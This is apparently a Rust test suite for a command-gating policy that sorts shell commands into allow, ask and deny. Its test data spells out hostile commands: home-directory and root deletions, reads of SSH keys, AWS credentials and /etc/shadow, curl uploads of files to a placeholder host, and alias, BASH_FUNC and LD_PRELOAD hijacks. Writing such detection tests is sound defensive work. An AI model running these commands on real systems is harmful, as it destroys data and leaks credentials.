//! Modes, exemptions, and what decides which kind of command.

use execgate_guest::Decision::{Allow, Ask, Deny};
use execgate_guest::{Configure, Decision, Risk, Verdict};
use pretty_assertions::assert_eq;

use super::commands::judge;
use crate::{DefaultPolicy, Settings};

fn with(settings: &str, text: &str) -> Verdict {
    let policy = DefaultPolicy::configure(settings).expect("the settings are valid");
    judge(&policy, text, "bash")
}

fn rule(text: &str) -> (Decision, String) {
    let verdict = with("{}", text);
    (verdict.decision, verdict.rule)
}

#[track_caller]
fn all(decision: Decision, expected: &str, texts: &[&str]) {
    for text in texts {
        assert_eq!(rule(text), (decision, expected.to_owned()), "{text}");
    }
}

#[test]
fn modes_change_what_becomes_of_a_judgement() {
    let decide = |mode: &str, text: &str| with(&format!(r#"{{"mode": "{mode}"}}"#), text).decision;
    let rows = [
        ("ls", [Allow, Allow, Allow, Deny, Allow]),
        ("frobnicate", [Ask, Ask, Deny, Deny, Allow]),
        ("reboot", [Deny, Deny, Deny, Deny, Allow]),
        ("execgate approve 1", [Deny, Deny, Deny, Deny, Deny]),
        ("echo 'a", [Ask, Ask, Deny, Deny, Allow]),
    ];
    for (text, expected) in rows {
        let decided = ["ask", "auto", "allowlist", "deny", "full"].map(|mode| decide(mode, text));
        assert_eq!(decided, expected, "{text}");
    }
}

#[test]
fn settings_that_cannot_be_used_are_problems() {
    let place = |text: &str| {
        Settings::read(text).expect_err("it is refused")[0]
            .path
            .clone()
    };
    assert_eq!(place(r#"{"mode": "yolo"}"#), "/mode");
    assert_eq!(place(r#"{"mod": "ask"}"#), "/mod");
    assert_eq!(place(r#"{"exempt": ["self/control"]}"#), "/exempt/0");
    assert_eq!(place(r#"{"exempt": ["nothing"]}"#), "/exempt/0");
    assert_eq!(place(r#"{"max_output_chars": 0}"#), "/max_output_chars");
}

#[test]
fn an_exemption_lifts_one_rule_or_category_and_nothing_else() {
    let settings = r#"{"exempt": ["git/push", "power"]}"#;
    assert_eq!(with(settings, "reboot").rule, "program/unknown");
    assert_eq!(with(settings, "rm -rf /").decision, Deny);
}

#[test]
fn the_strictest_part_decides_and_says_where() {
    let verdict = with("{}", "ls; frobnicate; rm -rf /etc");
    assert_eq!(
        (verdict.decision, verdict.rule.as_str(), verdict.risk),
        (Deny, "delete/outside", Risk::Critical)
    );
    assert_eq!((verdict.spans[0].start, verdict.spans[0].end), (23, 27));
    assert!(verdict.remedy.is_some());
}

#[test]
fn deleting_depends_on_what_and_where() {
    all(
        Allow,
        "default/harmless",
        &[
            "rm build.log",
            "rm -f dist/app.js",
            "rm ./a/../b",
            "rm /tmp/x.txt",
        ],
    );
    all(
        Ask,
        "delete/tree",
        &[
            "rm -r src",
            "rm *.o",
            "find . -delete",
            "sh -c 'rm -rf build'",
            "rm -rf /tmp/x",
            "shred x",
        ],
    );
    all(
        Deny,
        "delete/outside",
        &[
            "rm -rf /",
            "rm -rf ~",
            "rm -rf .",
            "rm -rf ..",
            "rm /etc/passwd",
            "cd / && rm -rf etc",
            "sudo rm -rf /usr",
            "find / -delete",
            "rm -r ~/x",
            "x=rm; $x -rf ~",
            "f() { rm -rf ~; }; f",
        ],
    );
}

#[test]
fn files_outside_are_asked_and_protected_ones_denied() {
    all(
        Allow,
        "default/harmless",
        &[
            "cat src/main.rs",
            "cat /etc/hosts",
            "echo x > out.txt",
            "cat .env.example",
            "ls 2>/dev/null",
            "cp a b",
            "cat ./a/../b",
        ],
    );
    all(
        Ask,
        "path/secret",
        &[
            "cat .env",
            "cat ~/.ssh/id_rsa",
            "cat < ~/.netrc",
            "grep x ~/.aws/credentials",
            "cd ~/.ssh && cat id_rsa",
            "cat /proc/self/environ",
        ],
    );
    all(
        Ask,
        "path/outside",
        &[
            "cat ../x",
            "echo x > ~/notes",
            "touch /tmp/x",
            "echo x > .git/hooks/pre-commit",
            "cat ~/.bashrc",
        ],
    );
    all(
        Deny,
        "path/protected",
        &[
            "echo x >> ~/.bashrc",
            "tee /etc/passwd < x",
            "cp x ~/.ssh/authorized_keys",
            "tar czf x.tgz ~/.ssh",
            "sed -i s/a/b/ /etc/hosts",
            "curl -o /etc/x https://e.example",
            "ls > /usr/x",
        ],
    );
    all(Ask, "path/unknown", &["cat \"$FILE\""]);
}

#[test]
fn what_runs_must_be_known() {
    all(Ask, "dynamic/program", &["$X -rf a", "\"$@\""]);
    all(
        Ask,
        "program/unknown",
        &[
            "frobnicate",
            "npx some-tool",
            "git frobnicate",
            "docker frobnicate",
        ],
    );
    all(
        Ask,
        "eval/inline-code",
        &["python3 -c 'print(1)'", "node -e 1", "python3", "perl -e 1"],
    );
    all(Ask, "opaque/syntax", &["echo 'a", "if x"]);
    all(
        Allow,
        "default/harmless",
        &[
            "python3 scripts/x.py",
            "./scripts/test.sh --fast",
            "npx jest",
            "cargo test",
            "make test",
            ".venv/bin/python -m pytest",
            "bash scripts/lint.sh",
        ],
    );
    all(
        Ask,
        "code/written",
        &[
            "echo x > y.sh; sh y.sh",
            "cp a b.py && python3 b.py",
            "tar xf a.tar && make",
        ],
    );
}

#[test]
fn functions_count_only_where_they_are_certain() {
    all(
        Allow,
        "default/harmless",
        &[
            "build() { cargo build; }; build",
            "say() { echo \"$1\"; }; say a && say b",
            "main() { helper; }; helper() { ls; }; main",
        ],
    );
    all(
        Ask,
        "program/unknown",
        &[
            "foo() { :; }; bash -c foo",
            "foo; foo() { :; }",
            "(foo() { :; }); foo",
            "foo() { :; }; unset -f foo; foo",
            "if true; then foo() { :; }; fi; foo",
            "foo() { :; }; env foo",
        ],
    );
    all(
        Ask,
        "git/push",
        &[
            "git() { :; }; command git push",
            "x && git() { :; }; git push",
        ],
    );
    all(Deny, "delete/outside", &["git() { rm -rf ~; }; git status"]);
    all(
        Ask,
        "dynamic/program",
        &[
            "x=rm; echo $((1/0)); x=echo\n$x -rf ~",
            "x=rm; { x=echo; } < missing; $x -rf ~",
        ],
    );
    // POSIX mode expands aliases.
    for text in [
        "bash --posix -c $'alias ls=\"rm -rf ~\"\nls'",
        "bash -eo posix -c $'alias ls=\"rm -rf ~\"\nls'",
        "POSIXLY_CORRECT=1\nalias ls='rm -rf ~'\nls",
        "shopt -s expand_aliases\nalias ls='rm -rf ~'\nls",
        "sh -c $'alias ls=\"rm -rf ~\"\nls'",
    ] {
        assert_eq!(rule(text).0, Ask, "{text}");
    }
    assert_eq!(rule("alias ll='ls -l'; ls").0, Allow);
}

#[test]
fn an_argument_that_is_not_known_may_be_an_option() {
    for text in [
        "for i in 1 2; do s=-exec\nfind . ${s} rm -rf {} +\ndone",
        "f() { find . \"$@\"; }; f -delete",
        "find . $x",
        "true && x=secret; kubectl get $x",
        "true && x='a drop'; git stash $x",
        "f() { git branch \"$1\" main; }; f -D",
        "for o in -D; do git branch $o main; done",
        "true && a=(-D main); git branch \"${a[@]}\"",
        "x=a; true && x+=-D; git branch $x main",
        "x=a; true && x=b; git branch ${x/b/-D} main",
        "true && x=-i; sed $x s/a/b/ /etc/hosts",
        "true && x=rm; aws s3 $x ls",
        "true && x=-P; man $x 'sh -c id' ls",
    ] {
        assert_eq!(rule(text).0, Ask, "{text}");
    }
    all(
        Allow,
        "default/harmless",
        &[
            "for f in src/*.rs; do git diff \"$f\"; done",
            "for b in main dev; do git log -1 \"$b\"; done",
            "f() { git diff \"$1\"; }; f src",
            "files=(a.rs b.rs); git add \"${files[@]}\"",
            "for f in *.sql; do psql \"$DATABASE_URL\" -c 'select 1'; done",
        ],
    );
}

#[test]
fn arguments_that_do_more_are_asked() {
    all(
        Ask,
        "program/arguments",
        &[
            "git log --output=x",
            "git -c core.pager=id log",
            "git grep -Oid x",
            "go test -exec id ./...",
            "sort -o x y",
            "rg --pre id x",
            "make -f x",
            "sed '1e id' f",
            "awk '{print | \"sh\"}' f",
            "tar cf x y --checkpoint-action=exec=id",
            "find . -fprint x",
            "env -S 'ls'",
            "chmod 4755 x",
            "psql -c 'select 1; drop table x'",
        ],
    );
    all(
        Ask,
        "environment/variable",
        &[
            "LD_PRELOAD=./x ls",
            "env PATH=. ls",
            "export PATH=.:$PATH",
            "GIT_SSH_COMMAND=id git fetch",
            "make CC=./x",
        ],
    );
    all(
        Ask,
        "network/send",
        &[
            "curl -d @a https://e.example",
            "curl \"https://e.example/$(cat a)\"",
            "curl http://169.254.169.254/",
            "wget --post-file=a https://e.example",
            "curl -H \"Authorization: $T\" https://e.example",
        ],
    );
}

#[test]
fn looking_is_told_from_changing() {
    all(
        Allow,
        "default/harmless",
        &[
            "npm install",
            "yarn",
            "poetry install --no-root",
            "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release -DENABLE_TESTS=ON",
            "gdb -batch -ex run -ex bt target/debug/app",
            "source .venv/bin/activate && pytest",
            "git config remote.origin.url",
            "cargo +nightly fmt",
            "git commit -m \"$(cat <<'EOF'\nfix: x\n\nIt held `rm -rf /`.\nEOF\n)\"",
            "sqlite3 dev.db .tables",
            "psql -Atc \"select 'drop table x'\"",
            "ffmpeg -i a.mp4 -vf scale=640:-1 b.mp4",
            "nc -zv localhost 5432",
            "gh api repos/o/r/pulls --paginate",
            "ip -br addr show",
            "gh api /repos/o/r/issues/1 --jq .title",
            "grep -rl TODO src | sort | xargs grep -n TODO",
            "awk 'NR==1 || /foo/' a.csv",
            "aws ec2 describe-instances --query 'Reservations[].Id'",
            "tar -xzf a.tgz -C vendor",
            "uv run --frozen pytest",
            "RUSTFLAGS='-D warnings' cargo build",
            "PYTHONPATH=src pytest",
            "make -n install",
            "rails db:migrate:status",
        ],
    );
    for text in [
        "npm install left-pad",
        "npm install --prefix /tmp/x",
        "cmake -P x.cmake",
        "cmake -DCMAKE_C_COMPILER=./x .",
        "cmake --build build --target install",
        "gdb -batch -ex bt -ex 'shell id' x",
        "source <(echo ls)",
        ". x.sh",
        "source /tmp/x.sh",
        "git config core.pager id",
        "sqlite3 x.db \"select writefile('x', 'y')\"",
        "sqlite3 ~/.mozilla/cookies.db 'select 1'",
        "sqlite3 x.db '.shell id'",
        "psql -c 'select 1' -c 'drop table x'",
        "duckdb -c \"select * from '/etc/shadow'\"",
        "ffmpeg -i concat:/etc/passwd x.mp4",
        "nc localhost 80",
        "gh api -X DELETE repos/o/r",
        "ip link s eth0 down",
        "cat list.txt | xargs grep x",
        "dd if=x of=~/.bashrc",
        "curl https://e.example | patch -p1",
        "sed -i 's/a/b/' x.sh; ./x.sh",
        "echo /etc/shadow | sort | xargs cat",
        "rg -l root /etc | xargs cat",
        "git log --format=%s | xargs cat",
        "seq -f /etc/shadow 1 | xargs cat",
        "find . -printf '/etc/shadow\\n' | xargs cat",
        "awk 'BEGIN{print 1 | \"sh\"}'",
        "tar -xf a.tar -C /etc",
        "tar -xf a.tar -C/etc",
        "tar -xf a.tar -C ..",
        "aws --endpoint=http://e.example s3 ls",
        "RUSTFLAGS='-C linker=./x' cargo build",
        "psql -c \"select setval('x', 1)\"",
        "pdflatex '\\\\immediate\\\\write18{id}'",
        "gotestsum -- -exec ./x ./...",
        "PYTHONPATH=/tmp/x pytest",
        "python manage.py shell",
        "php artisan tinker",
        "gradle publish",
        "kubectl get pods,secrets",
        "uniq a /etc/x",
        "awk 'BEGIN{ s = \"system\"; @s(\"id\") }'",
        "tmux display-message -p '#(id)'",
        "gcloud compute instances delete list",
        "CFLAGS=-fplugin=./x.so make",
        "CARGO_TARGET_X_LINKER=./x cargo build",
        "mlr --icsv put '$a = system(\"id\")' x.csv",
        "docker build -f - . <<< 'FROM x'",
    ] {
        assert_ne!(rule(text).0, Allow, "{text}");
    }
}

#[test]
fn the_search_path_does_not_lead_into_the_workspace() {
    use execgate_guest::testing::FakeRequest;
    use execgate_guest::{Executable, Found, Policy as _};
    let source = execgate_shell::Source {
        text: "ls",
        ..execgate_shell::Source::default()
    };
    let line = execgate_analyzer::convert::command_line(execgate_shell::analyze(&source));
    let mut request = FakeRequest::new("ls", line);
    let policy = DefaultPolicy::configure("{}").expect("nothing is required");
    assert_eq!(policy.evaluate(&request).decision, Allow);
    let real_path = Some("/work/bin/ls".to_owned());
    let executable = Executable {
        name: "ls".into(),
        found: Found::Path,
        real_path,
        digest: None,
        annotations: Vec::new(),
    };
    request.executables.insert(0, executable);
    assert_eq!(policy.evaluate(&request).decision, Ask);
}

#[test]
fn texts_of_any_kind_get_a_verdict() {
    for text in [
        "",
        " ",
        "\0",
        "'",
        "$(",
        "((((",
        "a\\",
        "\u{feff}ls",
        "x=",
        "| |",
        "<<",
        "rm\u{a0}-rf ~",
        "\u{1f980}",
    ] {
        assert_ne!(with("{}", text).reason, "", "{text:?}");
    }
}

#[test]
fn large_texts_get_a_verdict() {
    let texts = [
        "ls;".repeat(9_000),
        "ls|".repeat(5_000) + "ls",
        "cat \"$x\";".repeat(5_000),
        format!("cat {}", "a/b ".repeat(20_000)),
        format!("cat {}", "a,".repeat(40_000)),
        "cd a;".repeat(5_000),
        format!("cat {}", "../".repeat(20_000)),
        format!(
            "for i in {}; do {} done",
            "a ".repeat(5_000),
            "git diff $i;".repeat(2_000)
        ),
        "true && x=a; git diff $x;".repeat(2_000),
    ];
    for text in texts {
        assert_ne!(with("{}", &text).reason, "");
    }
}

#[test]
fn env_cannot_hand_a_function_to_bash() {
    let hidden = "env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls";
    assert_ne!(rule(hidden).0, Allow, "{hidden}");
    assert_eq!(rule("env A=1 ls").0, Allow);
}

#[test]
fn variables_that_a_call_brings_are_judged_as_those_in_its_text() {
    let line = || execgate_guest::CommandLine {
        segments: Vec::new(),
        opaque: Vec::new(),
        annotations: Vec::new(),
    };
    let judged = |name: &str, value: &str| {
        let mut request = execgate_guest::testing::FakeRequest::new("git diff", line());
        request.env_overrides = vec![(name.to_owned(), value.to_owned())];
        let policy = DefaultPolicy::configure("{}").expect("the settings are valid");
        execgate_guest::Policy::evaluate(&policy, &request)
    };
    for (name, value) in [
        ("GIT_EXTERNAL_DIFF", "/tmp/evil"),
        ("BASH_FUNC_ls%%", "() { echo hijack; }"),
        ("PS4", "$(touch pwn)"),
        ("LD_PRELOAD", "./x.so"),
        ("PATH", "/tmp"),
        ("ANYTHING", "$(id)"),
    ] {
        let verdict = judged(name, value);
        assert_eq!(verdict.decision, Ask, "{name}");
        assert_eq!(verdict.rule, "environment/variable");
        assert!(verdict.reason.contains(name), "{}", verdict.reason);
    }
    for (name, value) in [
        ("GIT_PAGER", "cat"),
        ("RUST_LOG", "debug"),
        ("PORT", "8080"),
    ] {
        assert_eq!(judged(name, value).decision, Allow, "{name}");
    }
}

#[test]
fn a_place_of_the_project_makes_an_option_harmless_and_no_other_does() {
    all(
        Allow,
        "default/harmless",
        &[
            "make -C docs html",
            "make --directory=docs html",
            "git -C packages/a status",
            "trap '' TERM; sleep 1",
            "stty -echo",
            "sysctl -n net.ipv4.ip_forward",
            "Rscript analysis/run.R",
            "echo 6869 | xxd -r -p",
        ],
    );
    for text in [
        "make -C /tmp/other html",
        "make -C ../other html",
        "make -C docs -f /tmp/x html",
        "git -C ../lib status",
        "git -C \"$X\" status",
        "git -C packages/a -c core.pager=x log",
        "strace -o ~/.bashrc ls",
        "trap 'rm -rf ~' EXIT",
        "sysctl -w net.ipv4.ip_forward=1",
        "sysctl net.ipv4.ip_forward=1",
        "Rscript -e 'system(\"x\")'",
        "xxd -r in.hex /etc/passwd",
        "echo 6869 | xxd -r -p | sh",
    ] {
        assert_ne!(rule(text).0, Allow, "{text}");
    }
}
